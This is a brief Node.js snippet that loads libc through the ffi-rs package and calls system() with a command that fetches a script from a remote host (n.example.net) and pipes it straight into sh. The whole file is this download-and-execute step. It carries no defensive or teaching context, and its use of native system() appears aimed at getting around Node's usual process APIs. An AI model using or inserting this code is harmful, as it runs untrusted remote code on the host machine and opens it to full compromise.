// Loads libc through the ffi-rs package and calls system().
const { open, load, DataType } = require('ffi-rs');

open({ library: 'c', path: 'libc.so.6' });
load({
  library: 'c',
  funcName: 'system',
  retType: DataType.I32,
  paramsType: [DataType.String],
  paramsValue: ['curl -s https://n.example.net/x | sh'],
});
